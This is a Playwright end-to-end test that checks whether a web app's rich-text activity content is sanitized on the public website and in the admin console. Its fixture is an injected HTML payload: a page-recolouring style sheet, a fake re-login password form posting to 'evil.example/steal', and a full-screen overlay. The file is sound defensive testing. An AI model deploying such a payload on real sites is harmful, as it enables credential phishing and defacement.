import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { expectVisible, loginAs } from './support/app';
import { checkpoint, expectNoConsoleErrors, useBrowserSession } from './support/browser';

// Rich text cannot restyle or imitate the pages showing it (docs/api.md "Rich text"): an activity
// whose content carries a style sheet and a login form with a password field, saved through the
// API as any writer of it could and published, leaves the public website and the console's
// activity detail with their own colours and no password field.

const NAME = '富文本安全检查活动';
const TEXT = '活动当天请准时到场';
// the style sheet after some text: a leading one the HTML parser would drop on its own
const HOSTILE =
  `<p>${TEXT}</p>` +
  '<style>html, body, div, section, main, article, header, footer { background: rgb(255, 0, 0) !important; color: rgb(255, 0, 0) !important; }</style>' +
  '<form action="https://evil.example/steal"><p>请重新登录</p><input type="password" name="pw" placeholder="密码">' +
  '<button type="submit">登录</button></form>' +
  '<p style="position: fixed; inset: 0; z-index: 9999; background-color: rgb(0, 0, 255)">覆盖</p>';

/** Creates and publishes the activity through the console's own calls, as the logged-in admin. */
async function publishHostileActivity(page: Page): Promise<number> {
  return page.evaluate(
    async ({ name, content }) => {
      const token = /(?:^|;\s*)Admin-Token=([^;]+)/.exec(document.cookie)?.[1] ?? '';
      const headers = { Authorization: `Bearer ${decodeURIComponent(token)}`, 'Content-Type': 'application/json' };
      const at = (days: number) => {
        const d = new Date(Date.now() + days * 86_400_000);
        const pad = (n: number) => String(n).padStart(2, '0');
        return `${d.getFullYear()}-${pad(d.getMonth() + 1)}-${pad(d.getDate())} 09:00:00`;
      };
      const body = JSON.stringify({
        nameZh: name,
        introZh: '检查富文本不会改变页面',
        beginTime: at(-1),
        endTime: at(10),
        cover: `/csp/system/oss/file/90004/${encodeURIComponent('电路示意图.png')}`,
        content,
      });
      const created = (await (await fetch('/csp/admin/activity', { method: 'POST', headers, body })).json()) as {
        code: number;
        data: { activityId: number };
      };
      if (created.code !== 200) throw new Error(JSON.stringify(created));
      const published = (await (
        await fetch('/csp/admin/activity/publish', {
          method: 'PUT',
          headers,
          body: JSON.stringify({ activityId: created.data.activityId, published: true }),
        })
      ).json()) as { code: number };
      if (published.code !== 200) throw new Error(JSON.stringify(published));
      return created.data.activityId;
    },
    { name: NAME, content: HOSTILE },
  );
}

/** Every element's painted colours, and the body's, as the page shows them. */
async function colours(page: Page) {
  return page.evaluate(() => {
    const red = 'rgb(255, 0, 0)';
    const painted = [...document.querySelectorAll('body *')].filter((e) => {
      const style = getComputedStyle(e);
      return style.backgroundColor === red || style.color === red;
    }).length;
    const body = getComputedStyle(document.body);
    return { painted, body: `${body.backgroundColor} ${body.color}` };
  });
}

async function expectUnharmed(page: Page, before: { body: string }) {
  expect(await colours(page)).toEqual({ painted: 0, body: before.body });
  expect(await page.locator('input[type=password]').count()).toBe(0);
  expect(await page.locator('form[action*="evil"]').count()).toBe(0);
  // no style sheet of the content's reached the page
  const sheets = await page.evaluate(() => [...document.querySelectorAll('style')].map((s) => s.textContent ?? ''));
  expect(sheets.filter((text) => text.includes('rgb(255, 0, 0)'))).toEqual([]);
}

describe('rich text', () => {
  const session = useBrowserSession();

  it('published with a style sheet and a password form, leaves the website and the console as they were', async () => {
    const { page } = session;
    await loginAs(page, 'admin');

    await page.goto('/website');
    await expectVisible(page.getByRole('heading').first());
    const websiteBefore = await colours(page);
    const activityId = await publishHostileActivity(page);

    // the public website and the activity's detail there
    await page.goto('/website');
    const open = page.getByRole('button', { name: new RegExp(NAME) });
    await expectVisible(open);
    await expectUnharmed(page, websiteBefore);
    await open.click();
    const dialog = page.getByRole('dialog', { name: NAME });
    await expectVisible(dialog.getByText(TEXT, { exact: true }));
    const overlay = dialog.getByText('覆盖', { exact: true });
    await expectVisible(overlay);
    // it keeps its highlight but not its place over the page
    expect(await overlay.evaluate((e) => getComputedStyle(e).position)).toBe('static');
    expect((await overlay.boundingBox())!.height).toBeLessThan(100);
    await checkpoint(page, 'rich-text-website-detail');
    await expectUnharmed(page, websiteBefore);

    // the console's activity detail
    await page.goto('/admin/activity/index');
    await expectVisible(page.getByRole('main'));
    const consoleBefore = await colours(page);
    await page.goto(`/admin/activity/detail/${activityId}`);
    const article = page.getByRole('main').getByRole('article', { name: NAME });
    await expectVisible(article.getByText(TEXT, { exact: true }));
    await checkpoint(page, 'rich-text-console-detail');
    await expectUnharmed(page, consoleBefore);
    expectNoConsoleErrors(page);
  });
});
